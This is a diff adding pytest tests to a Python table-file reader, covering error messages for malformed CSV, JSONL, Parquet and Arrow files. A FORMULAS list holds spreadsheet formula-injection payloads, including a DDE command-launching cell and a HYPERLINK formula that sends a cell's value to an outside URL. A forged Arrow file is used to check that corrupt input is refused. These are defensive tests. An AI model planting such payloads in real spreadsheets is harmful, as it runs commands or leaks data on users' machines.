@@ -5,14 +5,21 @@ from __future__ import annotations
 import gzip
 import io
 import json
+import os
 import sys
+import tempfile
+import threading
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
 import numpy as np
 import pandas as pd
+import pyarrow as pa
+import pyarrow.parquet as pq
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from nicecf import tablefiles
 from nicecf.benchmark.datasets import loan_book
@@ -150,7 +157,7 @@ BROKEN = {
     "empty": ("a.csv", "", "is empty; it needs a header"),
     "blank": ("a.csv", "\n\n", "is empty; it needs a header"),
     "empty gzip": ("a.csv.gz", gzip.compress(b""), "is empty; it needs a header"),
-    "no rows": ("a.csv", "a,b\n", "has no rows below its header"),
+    "empty lines": ("a.jsonl", "", "is empty; it needs an object in each line"),
     "no header": ("a.csv", "1.5,2\n1.6,3\n", "has no header: its first line holds numbers ('1.5', '2')"),
     "nameless": ("a.csv", ",b\n0,1\n", "has no name over column 1. If that is a saved index"),
     "repeated": ("a.csv", "a,b,a\n1,2,3\n", "has several columns called 'a'"),
@@ -171,7 +178,7 @@ BROKEN = {
     "excel called csv": ("a.csv", b"PK\x03\x04\xff", "is a zip archive, such as those of Excel"),
     "no gzip": ("a.csv.gz", b"a,b\n1,2\n", "is no whole gzip file (Not a gzipped file"),
     "cut gzip": ("a.csv.gz", gzip.compress(b"a,b\n1,2\n" * 99)[:-9], "is no whole gzip file"),
-    "no parquet": ("a.parquet", b"junk" * 9, "cannot be read as Parquet (Could not open Parquet"),
+    "no parquet": ("a.parquet", b"junk" * 9, "cannot be read as Parquet ("),
     "no arrow": ("a.arrow", b"ARROW1junk", "cannot be read as Arrow"),
     "no arrow either": ("a.feather", b"junk" * 9, "cannot be read as Arrow"),
     "not json": ("a.jsonl", '{"a": 1}\n{"a": }\n', "line 2, is not JSON (Expecting value"),
@@ -185,6 +192,8 @@ BROKEN = {
         '{"a": 1}\n\n{"a": "1"}\n',
         "line 3, holds text in 'a' ('1'), but a line above holds a number",
     ),
+    "half a character": ("a.jsonl", '{"a": "\\ud800"}\n', "line 1, holds half a character in 'a'"),
+    "half a character in a name": ("a.jsonl", '{"\\udfff": 1}\n', "line 1, holds half a character in"),
     "no fields": ("a.jsonl", "{}\n", "has no columns"),
     "json": ("a.json", "[]", "Write JSON with one object in each line, and call it .jsonl"),
     "excel": ("a.xlsx", b"PK", "Save the sheet as CSV"),
@@ -202,6 +211,27 @@ def test_what_is_no_table_is_said_in_one_line(tmp_path, case):
         message = refusal(lambda act=act: act(path))
         assert message.startswith(str(path))
         assert expected in message
+
+
+@pytest.mark.parametrize("ending", [".csv", ".tsv.gz", ".parquet", ".arrow"])
+def test_rows_to_explain_may_be_none_and_those_to_learn_from_may_not(tmp_path, training, ending):
+    path = tmp_path / f"t{ending}"
+    write(training[:0], path)
+    assert refusal(lambda: read(path)) == f"{path} has no rows below its header."
+    rows = rows_like(training, path)
+    assert rows.dtypes.tolist() == training.dtypes.tolist()
+    assert len(rows) == 0
+    assert list(rows.columns) == list(training.columns)
+    labelled = like(read_cells(path), Schema.of(training.drop(columns="zip"))[0].columns, id="zip")
+    assert labelled.index.name == "zip"
+    assert len(labelled) == 0
+
+
+def test_standard_input_and_output_that_are_closed_are_said(monkeypatch):
+    monkeypatch.setattr(sys, "stdin", None)
+    monkeypatch.setattr(sys, "stdout", None)
+    assert "standard input is closed; give the path of a file" in refusal(lambda: read("-"))
+    assert "standard output is closed; give the path of a file" in refusal(lambda: write(pd.DataFrame({"a": [1]}), "-"))
 
 
 def test_a_file_that_is_not_there_or_is_a_folder(tmp_path):
@@ -346,6 +376,20 @@ def test_types_of_json_are_checked_against_those_of_training(tmp_path):
     assert "column 'age' holds 'old', which is no number" in refusal(lambda: rows(age="old"))
 
 
+def test_cells_that_no_table_can_hold_are_named(tmp_path):
+    columns = Schema.of(pd.DataFrame({"n": [0.5, 1.0], "code": [1, 2]}), ["code"])[0].columns
+    for name in ("n", "code"):
+        line = json.dumps({"n": 1, "code": 1} | {name: 10**400})
+        assert f"line 1: column '{name}' holds a number of 401 digits; write it shorter" in refusal(
+            lambda line=line: like(read_cells(stored(tmp_path, line, "a.jsonl")), columns)
+        )
+    frame = pd.DataFrame({"n": [[1.0], [2.0]], "code": [1, 2]})
+    frame.to_parquet(tmp_path / "a.parquet")
+    assert "row 0: column 'n' holds a ndarray; a cell is a number, text" in refusal(
+        lambda: like(read_cells(tmp_path / "a.parquet"), columns)
+    )
+
+
 def test_columns_that_differ_from_those_of_training_are_named(tmp_path, training):
     table = changed(training)
     path = stored(tmp_path, table.replace("income", "incme"))
@@ -366,6 +410,86 @@ def test_columns_that_differ_from_those_of_training_are_named(tmp_path, training
     assert "ignore names 'age', which the explainer needs" in refusal(
         lambda: rows_like(training, path, ignore=["age"], id="person")
     )
+
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.org?"&A1)',
+    "@SUM(1+1)",
+    "+1+1",
+    "-2+3",
+    "-unknown",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\x0b\u200b=1+1",
+    "\uff1d1+1",
+    "\tplain",
+    "\rplain",
+    "1\r2",
+]
+WITH_APOSTROPHES = ["'=1+1", "''@x", "'\t", "' -x", "'tis", "'", "''"]
+HARMLESS = ["", "-", "plain", "a=b", "-1.5", "+3e-7", "-.5", "rock 'n' roll", "<=50K", "(-1)", "\u22121", "1+1"]
+
+
+@pytest.mark.parametrize("ending", [".csv", ".tsv", ".csv.gz"])
+def test_no_cell_is_a_formula_to_a_spreadsheet_and_all_come_back(tmp_path, ending):
+    words = [*FORMULAS, *WITH_APOSTROPHES, *HARMLESS]
+    kinds = {"=name": "object", "'=name": "category", "text": "str"}
+    frame = pd.DataFrame({name: pd.Series(words, dtype=kind) for name, kind in kinds.items()})
+    frame["n"] = -np.arange(len(words), dtype=float)
+    write(frame, tmp_path / f"t{ending}")
+    cells = read_cells(tmp_path / f"t{ending}")
+    assert list(cells.frame.columns) == ["'=name", "''=name", "text", "n"]
+    assert cells.frame["text"].tolist() == [
+        *("'" + word if word != "1\r2" else word for word in FORMULAS),
+        *("'" + word for word in WITH_APOSTROPHES[:4]),
+        *WITH_APOSTROPHES[4:],
+        *HARMLESS,
+    ]
+    assert cells.frame["n"].astype(float).tolist() == frame["n"].tolist()
+    back = tablefiles.without_apostrophes(cells).frame
+    assert list(back.columns) == [*kinds, "n"]
+    for name in kinds:
+        assert back[name].tolist() == words
+
+
+@given(st.lists(st.text(st.sampled_from(" '=+-@\t\r\n1.ae\uff1d\u200b\"," + "\x85\u2028")), min_size=1))
+def test_any_text_comes_back_from_protected_csv(words):
+    with tempfile.TemporaryDirectory() as folder:
+        for protect in (True, False):
+            write(pd.DataFrame({"a": words, "b": "x"}), f"{folder}/t.csv", protect=protect)
+            cells = read_cells(f"{folder}/t.csv")
+            back = tablefiles.without_apostrophes(cells) if protect else cells
+            assert back.frame["a"].tolist() == words
+
+
+def test_formulas_are_left_as_they_are_where_that_is_asked_for_or_the_file_has_types(tmp_path):
+    frame = pd.DataFrame({"=name": FORMULAS})
+    write(frame, tmp_path / "t.csv", protect=False)
+    assert read_cells(tmp_path / "t.csv").frame.equals(frame)
+    for ending in ("jsonl", "parquet", "arrow"):
+        write(frame, tmp_path / f"t.{ending}")
+        table = tablefiles.without_apostrophes(read_cells(tmp_path / f"t.{ending}"))
+        assert table.frame["=name"].tolist() == FORMULAS
+
+
+def test_tables_of_others_are_read_as_they_are(tmp_path):
+    path = stored(tmp_path, "'=a,b\n'=x,'-y\n")
+    for frame in (read(path), read_cells(path).frame):
+        assert list(frame.columns) == ["'=a", "b"]
+        assert frame.iloc[0].tolist() == ["'=x", "'-y"]
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pipes with names are of POSIX systems")
+def test_a_pipe_with_a_name_is_read_once(tmp_path):
+    os.mkfifo(tmp_path / "p.csv")
+    # Whoever writes into it waits until it is opened, and is cut off when it is closed.
+    writer = threading.Thread(target=(tmp_path / "p.csv").write_text, args=("a\n1\n",), daemon=True)
+    writer.start()
+    assert read(tmp_path / "p.csv")["a"].tolist() == [1]
+    writer.join(timeout=5)
 
 
 def test_a_row_without_a_label_is_named(tmp_path):
@@ -396,3 +520,97 @@ def test_semicolons_and_decimal_commas_are_seen(tmp_path):
     path.write_text('a;b;"c, d"\n1,5;2,5;3\n')
     with pytest.raises(FileError, match="de.csv holds more semicolons than commas in its header"):
         read(path)
+
+
+class Celsius(pa.ExtensionType):
+    """A type that somebody else defined, whose code would run when a file names it."""
+
+    def __init__(self):
+        super().__init__(pa.float64(), "test.celsius")
+
+    def __arrow_ext_serialize__(self):
+        return b""
+
+    @classmethod
+    def __arrow_ext_deserialize__(cls, storage_type, serialized):
+        return cls()
+
+
+@pytest.fixture
+def celsius():
+    pa.register_extension_type(Celsius())
+    yield Celsius()
+    pa.unregister_extension_type("test.celsius")
+
+
+def in_file(table, kind):
+    sink = io.BytesIO()
+    if kind == "parquet":
+        pq.write_table(table, sink)
+        return sink.getvalue()
+    new = pa.ipc.new_file if kind == "arrow" else pa.ipc.new_stream
+    with new(sink, table.schema) as writer:
+        writer.write_table(table)
+    return sink.getvalue()
+
+
+def nested_in(kind, cells):
+    if kind == "list":
+        return pa.ListArray.from_arrays(pa.array([0, 1, 2], pa.int32()), cells)
+    if kind == "struct":
+        return pa.StructArray.from_arrays([cells], ["inner"])
+    if kind == "map":
+        return pa.MapArray.from_arrays(pa.array([0, 1, 2], pa.int32()), pa.array(["a", "b"]), cells)
+    if kind == "list in a struct":
+        return nested_in("struct", nested_in("list", cells))
+    return cells
+
+
+@pytest.mark.parametrize("kind", ["parquet", "arrow", "stream"])
+@pytest.mark.parametrize("nested", ["", "list", "struct", "map", "list in a struct"])
+@pytest.mark.parametrize("is_known", [True, False])
+def test_types_that_others_define_are_not_read(tmp_path, celsius, kind, nested, is_known):
+    cells = nested_in(nested, pa.ExtensionArray.from_storage(celsius, pa.array([1.0, 2.0])))
+    content = in_file(pa.table({"n": [1, 2], "heat": cells}), kind)
+    if not is_known:
+        pa.unregister_extension_type("test.celsius")
+    try:
+        message = refusal(lambda: read(stored(tmp_path, content, f"a.{'parquet' if kind == 'parquet' else 'arrow'}")))
+    finally:
+        if not is_known:
+            pa.register_extension_type(Celsius())
+    assert "a." in message
+    assert "column 'heat' is of the extension type 'test.celsius'" in message
+    assert "Convert it" in message
+
+
+def test_periods_and_intervals_of_pandas_are_refused_with_advice(tmp_path):
+    frame = pd.DataFrame({"n": [1, 2], "month": pd.period_range("2024-01", periods=2, freq="M")})
+    frame.to_parquet(tmp_path / "a.parquet")
+    message = refusal(lambda: read(tmp_path / "a.parquet"))
+    assert "column 'month' is of the extension type 'pandas.period'" in message
+    assert "Convert it to text or a number, as by table['month'].astype(str), and write the file again." in message
+    frame["month"] = pd.interval_range(0, 2)
+    frame.to_feather(tmp_path / "a.feather")
+    assert "'pandas.interval'" in refusal(lambda: read(tmp_path / "a.feather"))
+    frame["month"] = frame["month"].astype(str)
+    frame.to_feather(tmp_path / "a.feather")
+    assert read(tmp_path / "a.feather")["month"].tolist() == ["(0, 1]", "(1, 2]"]
+
+
+def test_an_arrow_file_whose_texts_end_beyond_its_bytes_is_refused(tmp_path):
+    """pyarrow reads what lies there, or crashes."""
+    content = in_file(pa.table({"a": ["first", "second"]}), "arrow")
+    ends = np.array([0, 5, 11], dtype=np.int32).tobytes()
+    assert content.count(ends) == 1
+    forged = content.replace(ends, np.array([0, 5, 2**31 - 1], dtype=np.int32).tobytes())
+    assert "cannot be read as Arrow" in refusal(lambda: read(stored(tmp_path, forged, "a.arrow")))
+
+
+@pytest.mark.parametrize(
+    "said", [b"{", b"[]", b"{}", b'{"columns": 5}', b'{"columns": [{}], "index_columns": [{"kind": "range"}]}']
+)
+def test_what_a_file_says_of_pandas_in_vain_is_refused(tmp_path, said):
+    table = pa.table({"a": [1, 2]}).replace_schema_metadata({b"pandas": said})
+    path = stored(tmp_path, in_file(table, "arrow"), "a.arrow")
+    assert "cannot be read as Arrow (" in refusal(lambda: read(path))
